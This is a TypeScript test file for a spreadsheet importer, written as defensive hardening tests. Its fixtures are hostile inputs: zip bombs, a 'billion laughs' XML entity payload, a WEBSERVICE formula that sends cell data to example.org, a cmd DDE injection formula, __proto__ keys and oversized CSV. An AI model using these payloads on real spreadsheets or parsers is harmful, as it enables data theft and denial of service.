import { afterEach, describe, expect, it } from 'vitest'
import { guessTable } from '../../src/exchange/spreadsheet/guessTable.ts'
import { openSpreadsheet } from '../../src/exchange/spreadsheet/openSpreadsheet.ts'
import { lookAtZip } from '../../src/exchange/spreadsheet/lookAtZip.ts'
import { sheetRows } from '../../src/exchange/spreadsheet/sheetRows.ts'
import { readReturnedWorkbook } from '../../src/exchange/workbookBack/readReturnedWorkbook.ts'
import { asFile, sideBySide } from '../spreadsheet/samples.ts'
import { sheetOf, workbookOf, zipOf } from './zips.ts'

const own = Object.keys(Object.getOwnPropertyDescriptors(Object.prototype))

afterEach(() => {
  expect(Object.keys(Object.getOwnPropertyDescriptors(Object.prototype))).toEqual(own)
})

const text = (content: string) => new TextEncoder().encode(content)
const megabytes = (count: number) => new Uint8Array(count * 1024 * 1024)
const declared = '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'

describe('a zip file that means harm is refused before any reader sees it', () => {
  it.each([
    ['a bomb', zipOf([{ name: 'content.xml', content: megabytes(60) }]), 'tooDense'],
    [
      'a bomb that says it is small',
      zipOf([{ name: 'content.xml', content: megabytes(60), claims: 1000 }]),
      'tooDense',
    ],
    ['a part that says it is huge', zipOf([{ name: 'content.xml', content: 'x', claims: 0xfffffff0 }]), 'tooDense'],
    [
      'thousands of parts',
      zipOf(Array.from({ length: 2001 }, (_, i) => ({ name: `part${i}`, content: 'x' }))),
      'tooManyParts',
    ],
    ['a billion laughs', workbookOf(`${declared}${sheetOf('')}`), 'entities'],
    [
      'a billion laughs in two bytes a character',
      workbookOf('', [{ name: 'xl/styles.xml', content: Buffer.from(declared, 'utf16le') }]),
      'entities',
    ],
    ['one cut short', asFile(sideBySide, 'xlsx').subarray(0, 900), 'damaged'],
  ] as const)('%s', async (_, bytes, code) => {
    expect(await lookAtZip(bytes)).toEqual({ ok: false, code })
    expect((await openSpreadsheet(bytes)).ok).toBe(false)
    expect((await readReturnedWorkbook(bytes)).ok).toBe(false)
  })
})

describe('a spreadsheet that means harm', () => {
  it('said to reach the last cell of all is read as far as it is filled, or refused', async () => {
    const near = workbookOf(sheetOf('<row r="1"><c r="A1"><v>1</v></c></row>', 'A1:XFD1048576'))
    const read = await openSpreadsheet(near)
    expect(read.ok && read.sheets[0]!.rows).toEqual([[1]])
    const far = workbookOf(
      sheetOf(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
        'A1:XFD1048576',
      ),
    )
    const opened = await openSpreadsheet(far)
    if (opened.ok) expect(opened.sheets[0]!.rows.length).toBeLessThanOrEqual(20_000)
  })

  it('with formulas that call out comes in as values only', async () => {
    const cells = `<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://example.org/?"&amp;B1)</f><v>loyer</v></c><c r="B1"><f>cmd|'/c calc'!A1</f><v>12</v></c></row>`
    const opened = await openSpreadsheet(workbookOf(sheetOf(cells)))
    expect(opened.ok && opened.sheets[0]!.rows).toEqual([['loyer', 12]])
  })

  it('with names that JavaScript gives a meaning changes nothing', async () => {
    const rows = [
      ['__proto__', 'constructor', 'Montant'],
      ['__proto__', 'prototype', 100],
      ['constructor', 'toString', 200],
    ]
    for (const bytes of [
      asFile(rows, 'xlsx'),
      asFile(rows, 'ods'),
      asFile(rows, 'xls'),
      text('__proto__;Montant\nconstructor;3'),
    ]) {
      const opened = await openSpreadsheet(bytes)
      expect(opened.ok).toBe(true)
      if (opened.ok) for (const grid of opened.sheets) sheetRows(grid, guessTable(grid))
    }
  })

  it.each([
    ['a web page called a workbook', text('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'notSpreadsheet'],
    ['a PDF', text('%PDF-1.7 …'), 'notSpreadsheet'],
    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), 'notSpreadsheet'],
    ['nothing', new Uint8Array(0), 'empty'],
    ['one endless line', text('x'.repeat(3_000_000)), 'damaged'],
    ['millions of empty columns', text(';'.repeat(5_000_000)), 'damaged'],
    ['an endless quote', text(`"${'a;b\n'.repeat(200_000)}`), 'damaged'],
    [
      'an old container with nothing in it',
      new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1, 2, 3]),
      'damaged',
    ],
    ['over 50 MB', megabytes(51), 'tooLarge'],
  ] as const)('%s is refused', async (_, bytes, code) => {
    expect(await openSpreadsheet(bytes)).toEqual({ ok: false, code })
  })
})
